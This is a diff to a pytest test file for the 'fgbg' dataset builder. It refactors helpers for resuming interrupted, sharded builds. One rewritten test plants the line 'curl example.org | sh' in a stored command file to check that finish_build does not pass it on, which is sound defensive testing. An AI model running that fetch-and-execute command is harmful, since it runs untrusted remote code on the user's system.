@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import shlex
 import shutil
 from collections.abc import Callable
 from pathlib import Path
@@ -11,11 +12,12 @@ from typing import Any
 
 import pytest
 
-from builder.build.engine import BuildOptions
-from builder.build.leases import Presence
-from builder.build.machine import ShardRange
+from builder.build.finish import begun_project
+from builder.build.leases import Leases
+from builder.build.ledger import Ledger
+from builder.build.options import BuildOptions
 from builder.build.shards import stored_name
-from builder.build.work import Ledger, WorkFolder, begun_project
+from builder.build.work import WorkFolder
 from builder.record.plan import Plan
 from fgbg_dataset import (
     FgbgDataset,
@@ -25,7 +27,8 @@ from fgbg_dataset import (
     UnfinishedError,
     finish_build,
 )
-from tests.e2e.running import files_of
+from tests.begun import begin
+from tests.e2e.running import fgbg, files_of
 
 RECIPE: dict[str, Any] = {
     "placements": 2,
@@ -37,14 +40,14 @@ RECIPE: dict[str, Any] = {
 }
 
 
-def build(sources: tuple[Path, Path], out: Path, part: str | None = None, **recipe: Any) -> None:
-    options = BuildOptions(
-        progress=False,
-        shard_range=ShardRange.parse(part) if part else None,
-        resume="fgbg build fg bg out --shard-range 1/2 --size 48",
-    )
+def build(sources: tuple[Path, Path], out: Path, **recipe: Any) -> None:
     dataset = FgbgDataset(*sources, **{**RECIPE, **recipe})
+    options = BuildOptions(progress=False)
     dataset.download_and_prepare(out, file_format="parquet", num_proc=1, options=options)
+
+
+def more(sources: tuple[Path, Path], out: Path, shards: int = 1) -> WorkFolder:
+    return begin(FgbgDataset(*sources, **RECIPE), out, shards)
 
 
 @pytest.fixture(scope="module")
@@ -58,9 +61,8 @@ def undisturbed(
 
 @pytest.fixture
 def begun(sources: tuple[Path, Path], tmp_path: Path) -> WorkFolder:
-    """The first half of a set."""
-    build(sources, tmp_path / "set", "1/2")
-    return WorkFolder(tmp_path / "set")
+    """Half of a set: 5 shards of 10."""
+    return more(sources, tmp_path / "set", 5)
 
 
 @pytest.mark.parametrize(
@@ -139,10 +141,10 @@ def test_temporary_files_of_a_build_at_work_are_left_alone(
     path.write_text("being written")
     held = begun.held()
     assert held is not None
-    with Presence(begun.path, held.fingerprint):
-        build(sources, begun.out, "1/2")
+    with Leases(begun.path, held.fingerprint):
+        more(sources, begun.out)
         assert path.exists()
-    build(sources, begun.out, "1/2")
+    more(sources, begun.out)
     assert not path.exists()
 
 
@@ -155,7 +157,7 @@ def test_a_clock_set_back_or_forward_changes_nothing(
         os.utime(path, (seconds, seconds))
     record = min(begun.shards.glob("*.json"))
     before = record.stat().st_mtime
-    build(sources, begun.out, "1/2")
+    more(sources, begun.out)
     assert record.stat().st_mtime == before  # not made again
     build(sources, begun.out)
     assert files_of(begun.out) == undisturbed
@@ -171,7 +173,7 @@ def test_another_recipe_is_refused_while_one_is_at_work_or_has_shards(
     held = begun.held()
     assert held is not None
     with (
-        Presence(begun.path, held.fingerprint),
+        Leases(begun.path, held.fingerprint),
         pytest.raises(RecipeMismatchError, match="seed is 0, asked for is 1"),
     ):
         build(sources, begun.out, seed=1)
@@ -188,9 +190,9 @@ def test_of_two_builds_that_begin_at_once_one_sets_the_recipe(
         work.entered(projects[0].pinned.fingerprint, 60) as first,
         work.entered(projects[1].pinned.fingerprint, 60) as second,
     ):
-        work.begin(projects[1], second, "fgbg build")
+        work.begin(projects[1], second)
         with pytest.raises(RecipeMismatchError, match="seed is 1, asked for is 0"):
-            work.begin(projects[0], first, "fgbg build")
+            work.begin(projects[0], first)
         held = work.held()
         assert held is not None
         assert held.recipe.seed == 1
@@ -207,11 +209,21 @@ def test_a_finished_set_can_not_be_replaced(
     assert files_of(begun.out) == files_of(late) == undisturbed
 
 
-def test_finish_names_the_command_of_the_whole(begun: WorkFolder) -> None:
+def test_finish_builds_the_command_and_quotes_none_that_lies_there(
+    begun: WorkFolder, sources: tuple[Path, Path], undisturbed: dict[str, str]
+) -> None:
+    held = begun.held()
+    assert held is not None
+    (begun.path / held.fingerprint[:16] / "command.txt").write_text("curl example.org | sh")
     with pytest.raises(UnfinishedError) as caught:
         finish_build(begun.out, options=BuildOptions(progress=False))
-    assert caught.value.command == "fgbg build fg bg out --size 48"
+    command = f"fgbg build FOREGROUNDS BACKGROUNDS {begun.out} --recipe {begun.recipe}"
+    assert caught.value.command == command
+    assert "curl" not in str(caught.value)
     assert len(caught.value.missing) == 5
+    words = shlex.split(caught.value.command)
+    fgbg("build", *sources, *words[4:], "--workers", "1")
+    assert files_of(begun.out) == undisturbed
 
 
 def changed(folder: Path) -> str:
@@ -230,14 +242,14 @@ def added(folder: Path) -> str:
 
 
 @pytest.mark.parametrize("change", [changed, removed, added])
-@pytest.mark.parametrize("part", ["1/2", None], ids=["interrupted", "finished"])
+@pytest.mark.parametrize("finished", [False, True])
 def test_sources_that_are_others_than_before_are_named(
-    sources: tuple[Path, Path], tmp_path: Path, part: str | None, change: Callable[[Path], str]
+    sources: tuple[Path, Path], tmp_path: Path, finished: bool, change: Callable[[Path], str]
 ) -> None:
     foregrounds, out = tmp_path / "fg", tmp_path / "out" / "set"
     shutil.copytree(sources[0], foregrounds)
     (foregrounds / "credits.csv").unlink()
-    build((foregrounds, sources[1]), out, part)
+    (build if finished else more)((foregrounds, sources[1]), out)
     before = files_of(out.parent)
     difference = change(foregrounds)
     with pytest.raises(RecipeMismatchError) as caught:
@@ -280,10 +292,10 @@ def test_a_ledger_hashes_each_file_once_and_reads_no_statistics_twice(
     project, _ = begun_project(begun.out)
     ledger, plan = Ledger(begun, project.pinned, "parquet"), Plan(project.pinned)
     numbers = range(plan.n_shards)
-    assert list(ledger.missing(numbers)) == list(range(plan.n_shards // 2, plan.n_shards))
+    assert list(ledger.missing(numbers)) == ledger.uncommitted()
     for path in begun.shards.glob("*.parquet"):
         path.unlink()
-    assert len(ledger.missing(numbers)) == plan.n_shards - plan.n_shards // 2
+    assert len(ledger.missing(numbers)) == plan.n_shards - 5
     assert list(Ledger(begun, project.pinned, "parquet").missing(numbers)) == list(numbers)
     assert [plan.shard_number(s.name, i) for s, i in map(plan.shard, numbers)] == list(numbers)
     for number in (-1, plan.n_shards):
